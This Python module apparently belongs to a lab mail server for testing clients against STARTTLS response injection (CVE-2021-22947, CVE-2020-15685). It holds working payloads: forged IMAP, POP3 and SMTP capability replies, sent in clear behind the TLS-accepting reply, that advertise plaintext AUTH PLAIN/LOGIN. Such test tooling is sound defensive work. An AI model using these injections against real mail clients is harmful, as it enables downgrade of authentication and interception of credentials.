"""Octets in clear behind the reply that starts TLS: a client that keeps them takes them for what came inside TLS.

The payload answers the command a client sends first inside TLS: EHLO in SMTP, CAPA in POP3, CAPABILITY under the next
tag in IMAP (tags are counted up in the client's own style).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Protocol

from labserver.dialogues.tags import next_tag

if TYPE_CHECKING:
    from labserver.dialogues.exchange import Command, Dialogue

__all__ = ["Injection", "NoInjection", "RepliesInjected"]


class Injection(Protocol):
    """What crosses the boundary."""

    def behind(self, command: Command, dialogue: Dialogue) -> bytes:
        """Return the octets sent in clear right behind the reply that accepts the upgrade."""


@dataclass(frozen=True, slots=True, kw_only=True)
class NoInjection:
    """Nothing."""

    def behind(self, command: Command, dialogue: Dialogue) -> bytes:  # noqa: ARG002 -- the facet's
        """Return nothing."""
        return b""


@dataclass(frozen=True, slots=True, kw_only=True)
class RepliesInjected:
    """A whole answer to the client's next command, in the segment of the reply (CVE-2021-22947, CVE-2020-15685 …)."""

    def behind(self, command: Command, dialogue: Dialogue) -> bytes:
        """Return the answer that the client would believe."""
        if command.tag:
            return b"* CAPABILITY IMAP4rev1 AUTH=PLAIN AUTH=LOGIN\r\n%b OK injected\r\n" % next_tag(command.tag)
        if dialogue.upgrade_verb == "STLS":
            return b"+OK injected\r\nUSER\r\nSASL PLAIN LOGIN\r\n.\r\n"
        return b"250-injected\r\n250 AUTH PLAIN LOGIN\r\n"
